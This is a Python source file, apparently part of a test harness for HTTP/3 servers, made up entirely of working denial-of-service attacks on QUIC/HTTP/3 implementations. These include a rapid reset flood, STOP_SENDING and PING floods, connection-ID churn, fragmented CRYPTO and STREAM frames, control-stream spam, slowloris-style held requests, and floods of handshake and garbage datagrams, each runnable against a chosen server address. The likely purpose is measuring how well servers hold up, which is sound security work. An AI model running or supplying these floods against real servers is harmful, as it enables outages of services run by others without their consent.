"""Clients of HTTP/3 that mean no good.

    python attacks.py ADDRESS NAME CA ATTACK SECONDS [SINK]

It prints "ready" when it begins, and at the end a JSON object: how many connections, datagrams and bytes it sent, and how many bytes came
back. With SINK, an address, what belongs to the attack goes there instead of to the server: so the attacker needs as much of the machine
as otherwise, and the server nothing.
"""

import itertools
import json
import os
import random
import socket
import sys
import time

from aioquic.buffer import encode_uint_var as number
from aioquic.quic.crypto import CryptoPair
from aioquic.quic.packet import QuicProtocolVersion

import client as c
from client import Connection, Target, frame, reset_frame, section, stream_frame

FLOODS = {}
ROOM = 1100
PADDING, PING, CRYPTO, STOP_SENDING = 0x00, 0x01, 0x06, 0x05
MAX_STREAM_DATA, DATA_BLOCKED, STREAMS_BLOCKED = 0x11, 0x14, 0x16
NEW_CONNECTION_ID, RETIRE_CONNECTION_ID, PATH_CHALLENGE = 0x18, 0x19, 0x1A


def flood(function):
    """A function that gives the payloads of packets on one connection; None: it waits for the server."""
    FLOODS[function.__name__] = function
    return function


def frames(*values):
    """A frame of QUIC whose fields are all numbers."""
    return b"".join(number(value) for value in values)


def packed(parts):
    """As many of these parts in each packet as it has room for. None is passed on."""
    packet = b""
    for part in parts:
        if part is None or len(packet) + len(part) > ROOM:
            if packet:
                yield packet
            packet = b""
        if part is None:
            yield None
        else:
            packet += part
    if packet:
        yield packet


def streams(connection):
    """The numbers of new streams for requests. None: the server allows no more for now."""
    for count in itertools.count():
        while count >= connection.quic._remote_max_streams_bidi:
            yield None
        yield 4 * count


def head(connection, method="GET", path="/run.php", *more):
    return frame(c.HEADERS, section(connection.head(method, path, *more)))


def on_streams(connection, one):
    """For each new stream what `one` makes of its number."""
    return packed(stream if stream is None else one(stream) for stream in streams(connection))


@flood
def rapid_reset(connection):
    data = head(connection)
    return on_streams(
        connection,
        lambda stream: stream_frame(stream, data, is_last=False) + reset_frame(stream, c.REQUEST_CANCELLED, len(data)),
    )


@flood
def answers_that_nobody_wants(connection):
    data = head(connection, path="/large.bin")
    return on_streams(
        connection,
        lambda stream: stream_frame(stream, data, is_last=True) + frames(STOP_SENDING, stream, c.REQUEST_CANCELLED),
    )


@flood
def requests_that_the_server_resets(connection):
    data = head(connection, "POST", "/run.php", ("content-length", "5")) + frame(c.DATA, b"abc")
    return on_streams(connection, lambda stream: stream_frame(stream, data, is_last=True))


@flood
def resets_of_nothing(connection):
    return on_streams(connection, lambda stream: reset_frame(stream, c.REQUEST_CANCELLED, 0))


@flood
def pings(connection):
    return itertools.repeat(frames(PING) * ROOM)


@flood
def path_challenges(connection):
    return packed(frames(PATH_CHALLENGE) + os.urandom(8) for _ in itertools.count())


@flood
def connection_ids(connection):
    """New ones that retire the last, and the server's are given back."""

    def parts():
        for count in itertools.count(8):
            fresh = frames(NEW_CONNECTION_ID, count, count - 1) + b"\x08" + os.urandom(8 + 16)
            yield fresh + frames(RETIRE_CONNECTION_ID, count - 7)

    return packed(parts())


@flood
def blocked_frames(connection):
    return packed(frames(DATA_BLOCKED, 1 << 20) + frames(STREAMS_BLOCKED, 100) for _ in itertools.count())


@flood
def crypto_with_holes(connection):
    return packed(frames(CRYPTO, 3 + 2 * count % 4000, 1) + b"x" for count in itertools.count())


def parts_of_a_stream(stream, parts):
    """These parts as the bytes of one stream, in STREAM frames."""
    offset = 0
    for part in parts:
        yield stream_frame(stream, part, offset)
        offset += len(part)


def upload(connection, part):
    """A request without an end whose body has this part again and again. Each packet has many of them in one STREAM frame."""
    first = head(connection, "POST", "/run.php")
    many = part * ((ROOM - 20) // len(part))
    return parts_of_a_stream(0, itertools.chain([first], itertools.repeat(many)))


@flood
def empty_data(connection):
    return upload(connection, frame(c.DATA))


@flood
def data_of_one_byte(connection):
    return upload(connection, frame(c.DATA, b"a"))


@flood
def unknown_frames(connection):
    return upload(connection, frame(0x21))


@flood
def stream_frames_of_one_byte(connection):
    first = head(connection, "POST", "/run.php") + frame(c.DATA, b"a" * 16_000)
    return packed(parts_of_a_stream(0, (bytes([one]) for one in itertools.chain(first, itertools.repeat(0)))))


@flood
def stream_frames_with_holes(connection):
    # Within what the server allows.
    most = connection.quic._remote_max_stream_data_bidi_remote
    places = itertools.cycle(range(1, min(most, 200_000) - 1, 2))
    return packed(stream_frame(0, b"x", place) for place in places)


def on_control(connection, part):
    """This part again and again on the control stream."""
    stream = connection.own[c.CONTROL]
    first = connection.quic._streams[stream].sender.highest_offset
    many = part * ((ROOM - 20) // len(part))
    return (stream_frame(stream, many, first + count * len(many)) for count in itertools.count())


@flood
def unknown_frames_on_the_control_stream(connection):
    return on_control(connection, frame(0x21))


@flood
def priorities(connection):
    return on_control(connection, frame(c.PRIORITY_UPDATE, number(0) + b"u=1"))


@flood
def push_numbers(connection):
    return on_control(connection, frame(c.MAX_PUSH_ID, number(0)))


@flood
def unidirectional_streams(connection):
    def parts():
        for count in itertools.count(3):
            while count >= connection.quic._remote_max_streams_uni:
                yield None
            yield stream_frame(2 + 4 * count, number(0x21) + b"abc", is_last=True)

    return packed(parts())


@flood
def windows_in_small_steps(connection):
    first = stream_frame(0, head(connection, path="/large.bin"), is_last=True)
    steps = (frames(MAX_STREAM_DATA, 0, size) for size in itertools.count(1))
    return packed(itertools.chain([first, first], steps))


def deaf(connection):
    """Ignores what comes on streams. aioquic knows nothing of streams that were opened behind its back."""

    def skip(values):
        def handler(_context, _kind, buf):
            for _ in range(values):
                buf.pull_uint_var()

        return handler

    def skip_data(_context, kind, buf):
        buf.pull_uint_var()
        if kind & 4:
            buf.pull_uint_var()
        length = buf.pull_uint_var() if kind & 2 else buf.capacity - buf.tell()
        buf.seek(buf.tell() + length)

    handlers = connection.quic._QuicConnection__frame_handlers
    kinds = {0x04: skip(3), STOP_SENDING: skip(2), MAX_STREAM_DATA: skip(2)}
    kinds |= {kind: skip_data for kind in range(0x08, 0x10)}
    for kind, handler in kinds.items():
        handlers[kind] = (handler, handlers[kind][1])


class Count:
    """What was done."""

    def __init__(self):
        self.connections = self.datagrams = self.sent = self.received = 0

    def add(self, connection):
        self.connections += 1
        self.sent += connection.sent
        self.received += connection.received


def run_flood(target, name, until, sink, count):
    """One connection after the other, each until the server ends it."""
    tiny = name == "windows_in_small_steps"
    while time.monotonic() < until():
        connection = Connection(target, http=False, max_stream_data=1 if tiny else 1 << 20)
        try:
            connection.connect().begin()
        except (AssertionError, c.Late):
            # Refused, because others are half open: this is an answer, too.
            count.add(connection)
            connection.drop()
            continue
        connection.flush()
        deaf(connection)
        waits = 0
        for index, payload in enumerate(FLOODS[name](connection)):
            if payload is None:
                connection.turn(0.01)
                waits += 1
            else:
                connection.send_raw(connection.packet(payload), sink)
                count.datagrams += 1
                waits = 0
            if index % 16 == 0:
                connection.receive()
                connection.flush()
            if connection.ended or index > 5000 or waits > 20 or time.monotonic() >= until():
                break
        count.add(connection)
        connection.close()


class Initials:
    """First datagrams of handshakes, each for another connection."""

    def __init__(self, target):
        template = Connection(target, http=False)
        template.quic.connect(target.address, now=time.monotonic())
        self.own = template.quic.host_cid
        sender = template.quic._crypto_streams[next(iter(template.quic._crypto_streams))].sender
        hello = bytes(sender._buffer)
        template.drop()
        self.payload = frames(CRYPTO, 0, len(hello)) + hello

    def datagram(self, size=1200):
        other = os.urandom(8)
        crypto = CryptoPair()
        crypto.setup_initial(other, is_client=True, version=QuicProtocolVersion.VERSION_1)
        begin = b"\xc1" + QuicProtocolVersion.VERSION_1.to_bytes(4, "big")
        begin += bytes([8]) + other + bytes([8]) + self.own + number(0)
        # Length (two bytes), and number of the packet (two bytes).
        rest = max(size - len(begin) - 2, len(self.payload) + 18)
        plain = self.payload.ljust(rest - 18, b"\0")
        return crypto.encrypt_packet(begin + (0x4000 | rest).to_bytes(2, "big") + b"\0\0", plain, 0)


def sockets(target, count):
    """So many sockets, each with a port of its own."""
    found = []
    for _ in range(count):
        one = socket.socket(target.family(), socket.SOCK_DGRAM)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        one.setblocking(False)
        one.connect(target.address)
        found.append(one)
    return found


def send_from_many(target, make, until, sink, count):
    """Sends what `make` makes from many ports, and counts what comes back."""
    aim = Target(f"{sink[0]}:{sink[1]}", "", "") if sink else target
    ports = sockets(aim, 64)
    while time.monotonic() < until():
        for port in ports:
            data = make()
            try:
                port.send(data)
            except (BlockingIOError, ConnectionRefusedError):
                continue
            count.datagrams += 1
            count.sent += len(data)
        count.received += drained(ports)
    # What is still sent again.
    if not sink:
        end = time.monotonic() + 1
        while time.monotonic() < end:
            count.received += drained(ports)
            time.sleep(0.05)
    for port in ports:
        port.close()


def drained(ports):
    total = 0
    for port in ports:
        while True:
            try:
                total += len(port.recv(65536))
            except (BlockingIOError, ConnectionRefusedError):
                break
    return total


def garbage():
    """Bytes that look a little like a packet."""
    size = random.choice((1, 20, 43, 100, 600, 1200, 1400))
    kind = random.choice((b"", b"\x40", b"\xc0\0\0\0\1", b"\xe0\0\0\0\1\x08", b"\xc0\x1a\x2a\x3a\x4a\x08"))
    return (kind + os.urandom(size))[: max(size, 1)]


def held(target, name, until, sink, count):
    """Requests that are begun and never go on, on many connections."""
    connections = []
    slow = name in ("slow_heads", "slow_bodies")
    for _ in range(20):
        one = Connection(target, http=False, max_stream_data=0 if name == "windows_of_nothing" else 1 << 20)
        one.connect().begin()
        connections.append(one)
        for _ in range(100):
            if name == "slow_heads":
                one.bytes_on_request(head(one)[:10], is_last=False)
            elif name == "slow_bodies":
                one.bytes_on_request(head(one, "POST", "/run.php") + frame(c.DATA, b"a" * 1000)[:10], is_last=False)
            else:
                one.bytes_on_request(head(one, path="/large.bin"))
        one.flush()
    while time.monotonic() < until():
        for one in connections:
            if one.ended:
                continue
            if slow:
                for stream in range(0, 400, 40):
                    answer = one.answer_of(stream)
                    # aioquic resets what the server does not want.
                    if not answer.is_over and answer.stopped is None:
                        one.quic.send_stream_data(stream, b"\0")
            one.turn(0.001)
    for one in connections:
        count.add(one)
        one.close()


def ask_again_and_again(target, until, count):
    """What another client of HTTP/3 does meanwhile. Returns its times, seconds."""
    connection = Connection(target).connect()
    times = []
    while time.monotonic() < until():
        began = time.monotonic()
        answer = connection.get("/text.txt")
        assert answer.status == 200, answer
        times.append(time.monotonic() - began)
        time.sleep(0.001)
    count.add(connection)
    connection.close()
    return sorted(times)


HELD = ("slow_heads", "slow_bodies", "windows_of_nothing")


def main():
    address, name, ca, attack, seconds, *rest = sys.argv[1:]
    target = Target(address, name, ca)
    sink = None
    if rest:
        host, port = rest[0].rsplit(":", 1)
        sink = (host, int(port))
    count = Count()
    end = None

    def until():
        """It begins when it is asked first."""
        nonlocal end
        if end is None:
            print("ready", flush=True)
            end = time.monotonic() + float(seconds)
        return end

    if attack in FLOODS:
        run_flood(target, attack, until, sink, count)
    elif attack in HELD:
        held(target, attack, until, sink, count)
    elif attack == "handshakes":
        send_from_many(target, Initials(target).datagram, until, sink, count)
    elif attack == "garbage":
        send_from_many(target, garbage, until, sink, count)
    elif attack == "others":
        times = ask_again_and_again(target, until, count)
        count.requests, count.p99 = len(times), times[len(times) * 99 // 100]
    elif attack == "names":
        print(" ".join([*FLOODS, "handshakes", "garbage"]))
        return
    else:
        raise SystemExit(f"no attack is called {attack}")
    print(json.dumps(vars(count)), flush=True)


if __name__ == "__main__":
    main()
